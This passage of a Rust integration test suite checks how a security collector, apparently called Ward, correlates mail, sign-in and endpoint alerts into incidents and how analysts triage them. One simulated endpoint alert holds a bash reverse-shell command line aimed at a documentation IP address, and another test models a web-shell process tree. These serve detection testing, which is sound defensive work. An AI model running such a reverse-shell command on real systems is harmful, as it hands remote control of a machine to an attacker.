//! Incidents end to end against a real collector: a scripted attack across all
//! three sources (a phishing mail with an attachment to alice, her risky sign-in
//! from a new country, the attachment's hash written on her laptop and a reverse
//! shell spawned from it, then a new SSH key on a server written from the laptop's
//! address) becomes ONE incident with the right reasons and tactics, while noise
//! from other devices and users stays out. Analysts triage it through the API,
//! and a restarted collector keeps correlating into the same incident.
//!
//! The mail and sign-in alerts come from the real feed routes (Defender email
//! records, Entra sign-in records); the merge test writes feed alerts into the
//! store from this process, as `ward-collector import` does from another one: the
//! correlator tails the alerts table, so it picks them up however they arrived.

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use ring::rand::SystemRandom;
use serde_json::{Value, json};
use ward_collector::store::prelude::*;
use ward_collector::store::{AlertSource, SourcedAlert, Store};
use ward_protocol::*;
use ward_tests::*;

const MIN: u64 = 60_000;
const HASH: [u8; 32] = [0x5a; 32];

pub(crate) fn rule(id: &str, title: &str, severity: Severity, technique: &str, tactics: &[&str]) -> RuleRef {
    RuleRef {
        id: id.into(),
        title: title.into(),
        author: "Ward tests".into(),
        severity,
        techniques: vec![technique.into()],
        tactics: tactics.iter().map(|t| t.to_string()).collect(),
    }
}

fn new_id(at: u64) -> String {
    AlertId::generate(at, &SystemRandom::new()).unwrap().to_string()
}

/// Writes feed alerts into the collector's database from this process.
pub(crate) fn import(collector: &Collector, alerts: &[SourcedAlert]) {
    let mut store = Store::open(&collector.data_dir().join("ward.db")).unwrap();
    let out = store.insert_sourced_alerts(alerts, now_ms()).unwrap();
    assert_eq!(out.stored as usize, alerts.len());
}

pub(crate) fn feed(source: AlertSource, at: u64, rule: RuleRef, entities: Vec<Entity>) -> SourcedAlert {
    SourcedAlert {
        id: new_id(at),
        source,
        device_id: None,
        observed_at_ms: at,
        last_observed_at_ms: at,
        rule,
        entities,
        count: 1,
        matched: serde_json::Map::new(),
    }
}

/// Sends one alert with chosen rule and entities from a device; returns its id.
async fn send(dev: &mut TestDevice, at: u64, rule: RuleRef, entities: Vec<Entity>) -> String {
    let mut a = dev.next_alert();
    a.observed_at_ms = at;
    a.last_observed_at_ms = at;
    a.rule = rule;
    a.entities = entities;
    let id = a.id.to_string();
    let signed = dev.sign(&a);
    dev.send_batch(vec![signed]).await.unwrap();
    id
}

pub(crate) fn user(name: &str, uid: Option<u32>) -> Entity {
    Entity::User { name: name.into(), uid }
}

fn ip(a: &str) -> Entity {
    Entity::Ip {
        addr: a.parse().unwrap(),
    }
}

fn reason_of(detail: &Value, alert: &str) -> String {
    detail["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["alert"]["id"] == alert)
        .unwrap_or_else(|| panic!("alert {alert} not in {detail}"))["reason"]
        .as_str()
        .unwrap()
        .to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_attack_across_mail_identity_and_devices_is_one_incident() {
    let mut collector = Collector::start().unwrap();
    let ann = collector.user("ann", "analyst").unwrap();
    let vera = collector.user("vera", "viewer").unwrap();
    let token = collector.join_token(5, "1h").unwrap();
    let mut laptop = TestDevice::enroll_at(&token, "laptop-alice", "10.20.0.5", "alice")
        .await
        .unwrap();
    let mut server = TestDevice::enroll_at(&token, "srv-db", "10.20.0.9", "alice")
        .await
        .unwrap();
    let mut other = TestDevice::enroll_at(&token, "laptop-bob", "10.20.0.7", "bob")
        .await
        .unwrap();
    laptop.connect().await.unwrap();
    server.connect().await.unwrap();
    other.connect().await.unwrap();
    let t0 = now_ms() - 3 * 60 * MIN;

    // 1. The phishing mail with an attachment, delivered to alice (Defender EmailEvents
    //    and EmailAttachmentInfo, as the streaming API exports them).
    let (status, report) = collector
        .post_bytes_as("/api/v1/feeds/mailbox", &ann, mail_export(t0))
        .await
        .unwrap();
    assert_eq!(status, 200, "{report}");
    let mail_id = feed_alert(&collector, "ward-mailbox-malicious-delivered", "alice@contoso.com").await;
    let (incident, _) = collector.incident_of(&mail_id).await;

    // 2. alice's risky sign-in from a new country (an Entra SigninLogs record), and
    //    noise: carol's risky sign-in from elsewhere.
    let (status, report) = collector
        .post_bytes_as("/api/v1/feeds/identity", &ann, sign_in_export(t0 + 20 * MIN))
        .await
        .unwrap();
    assert_eq!(status, 200, "{report}");
    let signin_id = feed_alert(&collector, "ward-identity-risky-sign-in", "alice@contoso.com").await;
    let noise_signin = feed_alert(&collector, "ward-identity-risky-sign-in", "carol@contoso.com").await;

    // 3. The attachment lands on alice's laptop; 4. a reverse shell spawned from it.
    let dropped = send(
        &mut laptop,
        t0 + 40 * MIN,
        rule(
            "ward-file-from-mail",
            "Mail attachment written to disk",
            Severity::Medium,
            "T1204.002",
            &["TA0002"],
        ),
        vec![
            user("alice", Some(1000)),
            Entity::File {
                path: "/home/alice/Downloads/invoice.docm".into(),
                sha256: Some(HASH),
            },
        ],
    )
    .await;
    let shell = send(
        &mut laptop,
        t0 + 41 * MIN,
        rule(
            "ward-revshell",
            "Reverse shell",
            Severity::High,
            "T1059.004",
            &["TA0002", "TA0011"],
        ),
        vec![
            user("alice", Some(1000)),
            Entity::Process {
                pid: 4242,
                ppid: 4200,
                start_time_ms: t0 + 41 * MIN,
                exe: "/usr/bin/bash".into(),
                cmdline: "bash -i >& /dev/tcp/203.0.113.50/443 0>&1".into(),
                sha256: None,
            },
            ip("203.0.113.50"),
        ],
    )
    .await;
    let noise_device = send(
        &mut other,
        t0 + 42 * MIN,
        rule(
            "ward-test-rule",
            "Timestomping",
            Severity::Medium,
            "T1070.006",
            &["TA0005"],
        ),
        vec![
            user("bob", Some(1001)),
            user("root", Some(0)),
            Entity::File {
                path: "/etc/cron.d/x".into(),
                sha256: Some([0x11; 32]),
            },
        ],
    )
    .await;
    // 5. A new SSH key on the server, written from the laptop's address.
    let ssh_key = send(
        &mut server,
        t0 + 60 * MIN,
        rule(
            "ward-ssh-authorized-keys",
            "New SSH authorized key",
            Severity::High,
            "T1098.004",
            &["TA0003"],
        ),
        vec![
            user("alice", Some(1001)),
            ip("10.20.0.5"),
            Entity::File {
                path: "/home/alice/.ssh/authorized_keys".into(),
                sha256: None,
            },
        ],
    )
    .await;
    let (in_incident, latency) = collector.incident_of(&ssh_key).await;
    // From the collector's acknowledgement to the alert's place in an incident.
    eprintln!("alert to incident after the acknowledgement: {latency:?}");
    assert!(latency < Duration::from_secs(1), "alert to incident took {latency:?}");
    assert_eq!(in_incident, incident);
    for a in [&signin_id, &dropped, &shell] {
        assert_eq!(collector.incident_of(a).await.0, incident, "alert {a}");
    }
    for noise in [&noise_signin, &noise_device] {
        assert_ne!(
            collector.incident_of(noise).await.0,
            incident,
            "noise alert {noise} joined"
        );
    }

    // The incident page: every alert in time order (oldest first when asked) with its reason.
    let (status, detail) = collector
        .get_as(&format!("/api/v1/incidents/{incident}?order=oldest"), &vera)
        .await
        .unwrap();
    assert_eq!(status, 200, "{detail}");
    let ids: Vec<&str> = detail["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["alert"]["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, [&mail_id, &signin_id, &dropped, &shell, &ssh_key]);
    assert_eq!(reason_of(&detail, &mail_id), "first alert of the incident");
    let why = reason_of(&detail, &signin_id);
    assert!(
        why.ends_with(&format!("same user alice within 20 min of alert {mail_id}")),
        "{why}"
    );
    assert_eq!(
        reason_of(&detail, &dropped),
        format!("shares file {} with alert {mail_id}", hex_of(&HASH))
    );
    assert_eq!(
        reason_of(&detail, &shell),
        format!("same user alice within 1 min of alert {dropped}")
    );
    assert_eq!(
        reason_of(&detail, &ssh_key),
        format!("connection from 10.20.0.5, the address of laptop-alice: same device laptop-alice as alert {shell}")
    );
    let inc = &detail["incident"];
    let tactics: Vec<&str> = inc["tactics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["id"].as_str().unwrap())
        .collect();
    assert_eq!(tactics, ["TA0001", "TA0002", "TA0003", "TA0011"]);
    assert_eq!(inc["tactics"][0]["name"], "Initial Access");
    assert_eq!(
        inc["severity"], "critical",
        "high alerts, raised for several stages and sources"
    );
    assert_eq!(inc["sources"], json!(["agent", "identity", "mailbox"]));
    assert_eq!(inc["status"], "active");
    assert_eq!(
        (inc["alert_count"].as_i64(), inc["device_count"].as_i64()),
        (Some(5), Some(2))
    );
    assert_eq!(detail["scope"]["alerts"], 5);
    assert_eq!(detail["devices"].as_array().unwrap().len(), 2);
    assert!(
        inc["title"]
            .as_str()
            .unwrap()
            .starts_with("Multi-stage incident involving Initial Access & Command and Control"),
        "{inc}"
    );
    let entity = |kind: &str, key: &str| {
        detail["entities"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["kind"] == kind && e["key"] == key)
            .unwrap_or_else(|| panic!("no {kind} {key} in {}", detail["entities"]))
            .clone()
    };
    let attachment = entity("file", &hex_of(&HASH));
    assert_eq!(attachment["verdict"], "malicious");
    assert_eq!(attachment["alert_count"], 2);
    assert!(attachment["roles"].as_array().unwrap().contains(&json!("attachment")));
    assert_eq!(entity("device", "laptop-alice")["remediation"], "none");
    assert!(detail["timeline"].as_array().unwrap().len() >= 5);

    // Lists and filters.
    for filter in [
        "user=alice",
        "user=alice@contoso.com",
        "device=laptop-alice",
        "tactic=TA0003",
        "source=mailbox",
        "severity=critical",
    ] {
        let (status, list) = collector
            .get_as(&format!("/api/v1/incidents?{filter}"), &vera)
            .await
            .unwrap();
        assert_eq!(status, 200, "{list}");
        let found: Vec<&str> = list["incidents"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["id"].as_str().unwrap())
            .collect();
        assert_eq!(found, [incident.as_str()], "filter {filter}: {list}");
    }
    let (_, all) = collector.get("/api/v1/incidents?sort=severity").await.unwrap();
    assert_eq!(all["incidents"].as_array().unwrap().len(), 3, "{all}");
    assert_eq!(all["incidents"][0]["id"], incident.as_str());

    // Triage: viewers read only; analysts change, and every change is in the activity log.
    let (status, _) = collector
        .patch_as(
            &format!("/api/v1/incidents/{incident}"),
            &vera,
            json!({"status": "in_progress"}),
        )
        .await
        .unwrap();
    assert_eq!(status, 403);
    for (path, body) in [
        (format!("/api/v1/incidents/{incident}/comments"), json!({"text": "hi"})),
        (
            format!("/api/v1/incidents/{incident}/merge"),
            json!({"from": [incident]}),
        ),
        (
            format!("/api/v1/incidents/{incident}/alerts/{ssh_key}/move"),
            json!({"to": null}),
        ),
    ] {
        let (status, _) = collector.post_as(&path, &vera, body).await.unwrap();
        assert_eq!(status, 403, "{path}");
    }
    let (status, patched) = collector
        .patch_as(
            &format!("/api/v1/incidents/{incident}"),
            &ann,
            json!({"status": "in_progress", "assignee": "ann", "tags": ["phishing"], "classification": "true_positive"}),
        )
        .await
        .unwrap();
    assert_eq!(status, 200, "{patched}");
    assert_eq!(patched["incident"]["assignee"], "ann");
    assert_eq!(patched["incident"]["tags"], json!(["phishing"]));
    let (status, c) = collector
        .post_as(
            &format!("/api/v1/incidents/{incident}/comments"),
            &ann,
            json!({"text": "isolating the laptop"}),
        )
        .await
        .unwrap();
    assert_eq!(status, 201, "{c}");
    let (_, detail) = collector.get(&format!("/api/v1/incidents/{incident}")).await.unwrap();
    let kinds: Vec<&str> = detail["activity"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["kind"].as_str().unwrap())
        .collect();
    for k in ["created", "status", "assignee", "tags", "classification", "comment"] {
        assert!(kinds.contains(&k), "{k} missing from {kinds:?}");
    }
    assert_eq!(detail["comments"][0]["text"], "isolating the laptop");
    let (status, bad) = collector
        .patch_as(
            &format!("/api/v1/incidents/{incident}"),
            &ann,
            json!({"status": "redirected"}),
        )
        .await
        .unwrap();
    assert_eq!(status, 400, "{bad}");

    // The correlator's metrics: every alert correlated and timed, every incident counted.
    let db = collector.db().unwrap();
    let count = |sql: &str| db.query_row(sql, [], |r| r.get::<_, i64>(0)).unwrap() as u64;
    let started = Instant::now();
    loop {
        let m = collector.metrics().await.unwrap();
        let (alerts, linked) = (
            count("SELECT COUNT(*) FROM alerts"),
            count("SELECT COUNT(*) FROM incident_alerts"),
        );
        if metric(&m, "ward_alerts_correlated_total") == alerts && linked == alerts {
            assert_eq!(metric(&m, "ward_alert_to_incident_seconds_count"), alerts, "{m}");
            assert_eq!(
                metric(&m, "ward_incidents_opened_total"),
                count("SELECT COUNT(*) FROM incidents"),
                "{m}"
            );
            assert_eq!(metric(&m, "ward_correlation_backlog_alerts"), 0, "{m}");
            assert_eq!(metric(&m, "ward_correlation_failures_total"), 0, "{m}");
            break;
        }
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "{alerts} alerts, {linked} linked:\n{m}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    drop(db);

    // A restarted collector rebuilds its state and keeps correlating into the same incident.
    collector.stop().unwrap();
    collector.serve().unwrap();
    laptop.connect().await.unwrap();
    let later = send(
        &mut laptop,
        t0 + 90 * MIN,
        rule(
            "ward-discovery",
            "Discovery commands",
            Severity::Low,
            "T1082",
            &["TA0007"],
        ),
        vec![user("alice", Some(1000))],
    )
    .await;
    assert_eq!(collector.incident_of(&later).await.0, incident);
}

/// A Defender streaming export: a malicious mail with an attachment delivered to alice.
fn mail_export(at: u64) -> Vec<u8> {
    let t = rfc3339_ms(at);
    let msg = "a11ce000-0000-4c1e-9a53-0b6f1e2d3c4a";
    json!({"records": [
        {"time": t, "category": "AdvancedHunting-EmailEvents", "properties": {
            "Timestamp": t, "NetworkMessageId": msg, "InternetMessageId": "<inv-1@invoices.example>",
            "SenderMailFromAddress": "billing@invoices.example", "SenderFromAddress": "Billing@Invoices.example",
            "SenderFromDomain": "invoices.example", "SenderIPv4": "203.0.113.25",
            "RecipientEmailAddress": "Alice@contoso.com", "Subject": "Invoice overdue", "EmailDirection": "Inbound",
            "DeliveryAction": "Delivered", "DeliveryLocation": "Inbox/folder", "ThreatTypes": "Malware",
            "DetectionMethods": "{\"Malware\":[\"File detonation\"]}", "AttachmentCount": 1, "UrlCount": 0,
            "ReportId": format!("{msg}-1")}},
        {"time": t, "category": "AdvancedHunting-EmailAttachmentInfo", "properties": {
            "Timestamp": t, "NetworkMessageId": msg, "SenderFromAddress": "Billing@Invoices.example",
            "RecipientEmailAddress": "Alice@contoso.com", "FileName": "invoice.docm", "FileType": "docm",
            "SHA256": hex_of(&HASH).to_ascii_uppercase(), "FileSize": 48213, "ThreatTypes": "Malware",
            "ReportId": format!("{msg}-2")}}
    ]})
    .to_string()
    .into_bytes()
}

/// Entra sign-in records: alice at high risk from a country she never signed in from;
/// carol at high risk from elsewhere.
fn sign_in_export(at: u64) -> Vec<u8> {
    let record = |id: &str, upn: &str, ip: &str, city: &str, country: &str| {
        json!({"category": "SignInLogs", "resultType": "0", "callerIpAddress": ip, "time": rfc3339_ms(at),
            "properties": {"id": id, "userPrincipalName": upn, "createdDateTime": rfc3339_ms(at), "ipAddress": ip,
                "appDisplayName": "Office 365", "clientAppUsed": "Browser",
                "location": {"city": city, "countryOrRegion": country},
                "riskLevelDuringSignIn": "High", "riskState": "atRisk", "status": {"errorCode": 0}}})
    };
    json!({"records": [
        record("sign-in-alice", "alice@contoso.com", "198.51.100.23", "Lagos", "NG"),
        record("sign-in-carol", "carol@contoso.com", "192.0.2.77", "Lima", "PE"),
    ]})
    .to_string()
    .into_bytes()
}

/// The id of the alert `rule` raised about `user` (as its user entity names them).
async fn feed_alert(collector: &Collector, rule: &str, user: &str) -> String {
    let (status, body) = collector.get(&format!("/api/v1/alerts?rule={rule}")).await.unwrap();
    assert_eq!(status, 200, "{body}");
    body["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| {
            a["entities"]
                .as_array()
                .unwrap()
                .iter()
                .any(|e| e["kind"] == "user" && e["name"] == user)
        })
        .unwrap_or_else(|| panic!("no {rule} alert for {user} in {body}"))["id"]
        .as_str()
        .unwrap()
        .to_string()
}

fn hex_of(h: &[u8; 32]) -> String {
    h.iter().map(|b| format!("{b:02x}")).collect()
}

/// Merge and move through the API, and the no-auto-merge rule for assignees.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn analysts_merge_and_move_alerts_through_the_api() {
    let collector = Collector::start().unwrap();
    let ann = collector.user("ann", "analyst").unwrap();
    let t0 = now_ms() - 60 * MIN;
    let signin = |who: &str, at: u64| {
        feed(
            AlertSource::Identity,
            at,
            rule(
                "ward-identity-risky-sign-in",
                "Risky sign-in",
                Severity::Medium,
                "T1078",
                &["TA0001"],
            ),
            vec![
                user(&format!("{who}@contoso.com"), None),
                // Each from an address of their own.
                ip(if who == "dave" { "198.51.100.4" } else { "198.51.100.5" }),
            ],
        )
    };
    let (d1, e1) = (signin("dave", t0), signin("erin", t0 + MIN));
    import(&collector, &[d1.clone(), e1.clone()]);
    let dave = collector.incident_of(&d1.id).await.0;
    let erin = collector.incident_of(&e1.id).await.0;
    assert_ne!(dave, erin);
    // Different assignees: a bridging alert does not merge them.
    for (inc, who) in [(&dave, "ann"), (&erin, "ben")] {
        let (s, b) = collector
            .patch_as(&format!("/api/v1/incidents/{inc}"), &ann, json!({"assignee": who}))
            .await
            .unwrap();
        assert_eq!(s, 200, "{b}");
    }
    // Dave's sign-in from erin's address ties both.
    let mut bridge = signin("dave", t0 + 2 * MIN);
    bridge.entities.push(ip("198.51.100.5"));
    import(&collector, &[bridge.clone()]);
    assert_eq!(collector.incident_of(&bridge.id).await.0, dave);
    let (_, e) = collector.get(&format!("/api/v1/incidents/{erin}")).await.unwrap();
    assert_eq!(e["incident"]["status"], "active");
    let (_, d) = collector.get(&format!("/api/v1/incidents/{dave}")).await.unwrap();
    assert!(
        reason_of(&d, &bridge.id).contains("not merged: different assignees"),
        "{d}"
    );

    // By hand: merge erin's into dave's; the merged one answers as redirected.
    let (s, merged) = collector
        .post_as(
            &format!("/api/v1/incidents/{dave}/merge"),
            &ann,
            json!({"from": [erin]}),
        )
        .await
        .unwrap();
    assert_eq!(s, 200, "{merged}");
    assert_eq!(merged["incident"]["alert_count"], 3);
    let (s, e) = collector.get(&format!("/api/v1/incidents/{erin}")).await.unwrap();
    assert_eq!(
        (s, &e["incident"]["status"], &e["incident"]["redirected_to"]),
        (200, &json!("redirected"), &json!(dave))
    );
    let (_, redirected) = collector.get("/api/v1/incidents?status=redirected").await.unwrap();
    assert_eq!(redirected["incidents"].as_array().unwrap().len(), 1);
    // A redirected incident takes no more changes; the answer names where it went.
    let (s, b) = collector
        .patch_as(
            &format!("/api/v1/incidents/{erin}"),
            &ann,
            json!({"status": "resolved"}),
        )
        .await
        .unwrap();
    assert_eq!(s, 409, "{b}");
    assert!(b.to_string().contains(dave.as_str()), "{b}");
    let (s, _) = collector
        .post_as(
            &format!("/api/v1/incidents/{erin}/comments"),
            &ann,
            json!({"text": "too late"}),
        )
        .await
        .unwrap();
    assert_eq!(s, 409);

    // Move erin's first alert out into a new incident.
    let (s, moved) = collector
        .post_as(
            &format!("/api/v1/incidents/{dave}/alerts/{}/move", e1.id),
            &ann,
            json!({"to": null, "reason": "different person"}),
        )
        .await
        .unwrap();
    assert_eq!(s, 200, "{moved}");
    let new = moved["incident"]["id"].as_str().unwrap();
    assert_eq!(moved["incident"]["alert_count"], 1);
    let (_, n) = collector.get(&format!("/api/v1/incidents/{new}")).await.unwrap();
    assert_eq!(
        reason_of(&n, &e1.id),
        format!("moved by ann from incident {dave}: different person")
    );
    assert_eq!(n["alerts"][0]["linked_by"], "ann");
    let (s, _) = collector
        .post_as(
            &format!("/api/v1/incidents/{dave}/alerts/{}/move", e1.id),
            &ann,
            json!({"to": null}),
        )
        .await
        .unwrap();
    assert_eq!(s, 400, "the alert is no longer there");
    let (s, _) = collector.get("/api/v1/incidents/not-an-id").await.unwrap();
    assert_eq!(s, 400);
}

/// Lists every page of `query` (limit 2) by following `next_cursor`.
async fn all_pages(collector: &Collector, query: &str) -> Vec<String> {
    let mut ids = Vec::new();
    let mut cursor: Option<String> = None;
    for _ in 0..50 {
        let url = match &cursor {
            Some(c) => format!("/api/v1/incidents?{query}&limit=2&cursor={c}"),
            None => format!("/api/v1/incidents?{query}&limit=2"),
        };
        let (s, page) = collector.get(&url).await.unwrap();
        assert_eq!(s, 200, "{page}");
        for i in page["incidents"].as_array().unwrap() {
            ids.push(i["id"].as_str().unwrap().to_string());
        }
        match page["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => return ids,
        }
    }
    panic!("more than 50 pages for {query}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_incident_list_filters_sorts_and_pages() {
    let collector = Collector::start().unwrap();
    let ann = collector.user("ann", "analyst").unwrap();
    let now = now_ms();
    let day = 24 * 60 * MIN;
    // Seven people, one incident each; three share one time and severity (ties).
    let at = [
        now - 3 * MIN,
        now - 2 * day,
        now - 2 * day,
        now - 2 * day,
        now - 5 * day,
        now - 9 * day,
    ];
    let severity = [
        Severity::Low,
        Severity::High,
        Severity::High,
        Severity::High,
        Severity::Critical,
        Severity::Medium,
    ];
    let mut alerts: Vec<SourcedAlert> = (0..6)
        .map(|i| {
            let (source, tactic) = if i % 2 == 0 {
                (AlertSource::Identity, "TA0001")
            } else {
                (AlertSource::Mailbox, "TA0006")
            };
            feed(
                source,
                at[i],
                rule("r", &format!("alert {i}"), severity[i], "T1078", &[tactic]),
                vec![user(&format!("person{i}@contoso.com"), None)],
            )
        })
        .collect();
    // Older than the default 30 days.
    alerts.push(feed(
        AlertSource::Identity,
        now - 40 * day,
        rule("r", "old", Severity::High, "T1078", &["TA0001"]),
        vec![user("person6@contoso.com", None)],
    ));
    import(&collector, &alerts);
    let mut ids = Vec::new();
    for a in &alerts {
        ids.push(collector.incident_of(&a.id).await.0);
    }
    for (i, patch) in [
        (1, json!({"assignee": "ann", "tags": ["vip"]})),
        (4, json!({"assignee": "ann"})),
        (5, json!({"tags": ["vip"]})),
    ] {
        let (s, b) = collector
            .patch_as(&format!("/api/v1/incidents/{}", ids[i]), &ann, patch)
            .await
            .unwrap();
        assert_eq!(s, 200, "{b}");
    }
    let list = |q: String| {
        let collector = &collector;
        async move {
            let (s, b) = collector.get(&format!("/api/v1/incidents?{q}")).await.unwrap();
            assert_eq!(s, 200, "{q}: {b}");
            b["incidents"]
                .as_array()
                .unwrap()
                .iter()
                .map(|i| i["id"].as_str().unwrap().to_string())
                .collect::<BTreeSet<String>>()
        }
    };
    let set = |is: &[usize]| is.iter().map(|&i| ids[i].clone()).collect::<BTreeSet<String>>();

    assert_eq!(
        list(String::new()).await,
        set(&[0, 1, 2, 3, 4, 5]),
        "the last 30 days by default"
    );
    assert_eq!(list("since_ms=0".into()).await, set(&[0, 1, 2, 3, 4, 5, 6]));
    assert_eq!(list(format!("since_ms=0&until_ms={}", now - 30 * day)).await, set(&[6]));
    assert_eq!(list("assignee=ann".into()).await, set(&[1, 4]));
    assert_eq!(list("tag=vip".into()).await, set(&[1, 5]));
    assert_eq!(list("source=mailbox".into()).await, set(&[1, 3, 5]));
    assert_eq!(list("tactic=TA0006".into()).await, set(&[1, 3, 5]));
    assert_eq!(list("severity=high".into()).await, set(&[1, 2, 3, 4]), "high and above");
    assert_eq!(list("user=person2@contoso.com".into()).await, set(&[2]));
    assert_eq!(list("status=active&assignee=ann&tag=vip".into()).await, set(&[1]));
    // Free text: in titles ("alert 3") or in entities (a user as correlation names
    // it, or as the alert wrote it), any case; LIKE's wildcards are plain characters.
    assert_eq!(list("q=ALERT%203".into()).await, set(&[3]));
    assert_eq!(list("q=Person4".into()).await, set(&[4]));
    assert_eq!(list("q=person4%40contoso.com".into()).await, set(&[4]));
    assert_eq!(list("q=%25".into()).await, set(&[]));
    assert_eq!(list("q=alert&source=mailbox".into()).await, set(&[1, 3, 5]));
    let (s, b) = collector
        .get(&format!("/api/v1/incidents?q={}", "x".repeat(201)))
        .await
        .unwrap();
    assert_eq!(s, 400, "{b}");

    // Pages of two, followed by cursor, give the one full list in its order, ties
    // (three incidents with one severity and time) neither lost nor repeated.
    for sort in ["severity", "last_activity"] {
        let (_, full) = collector
            .get(&format!("/api/v1/incidents?sort={sort}&limit=100"))
            .await
            .unwrap();
        let full: Vec<String> = full["incidents"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["id"].as_str().unwrap().to_string())
            .collect();
        assert_eq!(full.len(), 6);
        assert_eq!(
            all_pages(&collector, &format!("sort={sort}")).await,
            full,
            "sort={sort}"
        );
        if sort == "severity" {
            assert_eq!(full[0], ids[4], "critical first");
            assert_eq!(full[5], ids[0], "low last");
        } else {
            assert_eq!(full[0], ids[0], "newest first");
        }
    }
    let (s, b) = collector.get("/api/v1/incidents?cursor=nonsense").await.unwrap();
    assert_eq!(s, 400, "{b}");
}

/// A process node of a lineage (pid, start time, exe).
fn proc_node(pid: u32, exe: &str) -> ProcessNode {
    ProcessNode {
        pid,
        ppid: 1,
        start_time_ms: 1_000 + u64::from(pid),
        exe: exe.into(),
        cmdline: exe.into(),
        user: Some("tomcat".into()),
        login_user: None,
    }
}

fn lineage(pid: u32, exe: &str, ancestors: &[(u32, &str)]) -> Entity {
    Entity::Lineage {
        process: proc_node(pid, exe),
        ancestors: ancestors.iter().map(|(p, e)| proc_node(*p, e)).collect(),
        rooted: true,
    }
}

/// An incident larger than a page: pages newest or oldest first with a stable
/// cursor and a time range, states totals that no page changes, counts evidence
/// over every alert, folds show their count, and the process tree merges lineages.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_large_incident_pages_and_counts_the_whole_incident() {
    let collector = Collector::start().unwrap();
    let t0 = now_ms() - 60 * MIN;
    const N: u64 = 450;
    let hash = Entity::File {
        path: "/tmp/drop.bin".into(),
        sha256: Some([0x7c; 32]),
    };
    let mut alerts: Vec<SourcedAlert> = (0..N)
        .map(|i| {
            let mut a = feed(
                AlertSource::Collector,
                t0 + i * 1_000,
                rule(
                    &format!("r{}", i % 3),
                    "Dropper seen",
                    Severity::High,
                    "T1105",
                    &["TA0011"],
                ),
                vec![hash.clone(), ip(&format!("10.9.{}.{}", i / 200, i % 200))],
            );
            if i == 7 {
                a.count = 40;
                a.last_observed_at_ms = t0 + 7_000 + 30 * MIN;
            }
            a
        })
        .collect();
    // Three alerted processes of one web-shell tree: java > sh > bash -c > bash -i > whoami / id.
    let chain = [(5, "bash -i"), (4, "bash -c"), (3, "sh"), (2, "java")];
    for (k, (pid, exe, up)) in [
        (6, "whoami", &chain[..]),
        (7, "id", &chain[..]),
        (5, "bash -i", &chain[1..]),
    ]
    .into_iter()
    .enumerate()
    {
        alerts[10 + k].entities.push(lineage(pid, exe, up));
    }
    import(&collector, &alerts);
    let (incident, _) = collector.incident_of(&alerts[0].id).await;
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let (_, d) = collector.get(&format!("/api/v1/incidents/{incident}")).await.unwrap();
        if d["totals"]["alerts"] == N {
            break;
        }
        assert!(Instant::now() < deadline, "not all alerts correlated: {}", d["totals"]);
        tokio::time::sleep(Duration::from_millis(200)).await;
    }

    // The detail: totals of the whole incident, the newest page, evidence over every alert.
    let (status, d) = collector.get(&format!("/api/v1/incidents/{incident}")).await.unwrap();
    assert_eq!(status, 200, "{d}");
    assert_eq!(d["totals"]["alerts"], N);
    assert_eq!(d["totals"]["events"], N + 39, "the folded alert stands for 40");
    assert_eq!(d["totals"]["folded_alerts"], 1);
    assert_eq!(d["totals"]["by_severity"]["high"], N);
    assert_eq!(d["alerts_page"]["total"], N);
    assert_eq!(d["alerts_page"]["shown"], 200);
    assert_eq!(d["scope"]["alerts"], N);
    assert_eq!(d["scope"]["ips"], N, "every address, not those of one page");
    let page: Vec<&Value> = d["alerts"].as_array().unwrap().iter().collect();
    assert_eq!(page.len(), 200);
    assert_eq!(page[0]["alert"]["id"], alerts[N as usize - 1].id, "newest first");
    let file = d["entities"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "file")
        .unwrap();
    assert_eq!(file["alert_count"], N);
    assert_eq!(file["verdict"], "malicious");
    assert_eq!(d["entity_totals"]["ip"], N);
    assert_eq!(
        d["entities"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["kind"] == "ip")
            .count(),
        100,
        "the most alerted of each kind are listed, the totals count them all"
    );
    assert!(
        d["page_entities"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["alert_ids"].as_array().is_some_and(|a| !a.is_empty())),
        "the graph's entities name the page's alerts"
    );

    // Deferred: the same page and totals at once, the evidence from /evidence.
    let (_, light) = collector
        .get(&format!("/api/v1/incidents/{incident}?evidence=deferred"))
        .await
        .unwrap();
    assert_eq!(
        (light["evidence"].as_str(), light["totals"]["alerts"].as_u64()),
        (Some("deferred"), Some(N))
    );
    assert_eq!(light["alerts"][0], d["alerts"][0]);
    assert_eq!(light["entities"], json!([]));
    let (status, ev) = collector
        .get(&format!("/api/v1/incidents/{incident}/evidence"))
        .await
        .unwrap();
    assert_eq!(status, 200, "{ev}");
    assert_eq!(
        (ev["entities"].clone(), ev["entity_totals"].clone()),
        (d["entities"].clone(), d["entity_totals"].clone())
    );
    assert_eq!(ev["scope"], d["scope"]);

    // Every page, both orders: each alert once, in order; totals never change.
    for (order, expect_first) in [("newest", N as usize - 1), ("oldest", 0)] {
        let mut seen: Vec<String> = Vec::new();
        let mut cursor: Option<String> = None;
        loop {
            let mut path = format!("/api/v1/incidents/{incident}/alerts?order={order}&limit=128");
            if let Some(c) = &cursor {
                path.push_str(&format!("&cursor={c}"));
            }
            let (status, p) = collector.get(&path).await.unwrap();
            assert_eq!(status, 200, "{p}");
            assert_eq!(
                (p["total"].as_u64(), p["totals"]["alerts"].as_u64()),
                (Some(N), Some(N))
            );
            seen.extend(
                p["alerts"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|a| a["alert"]["id"].as_str().unwrap().to_string()),
            );
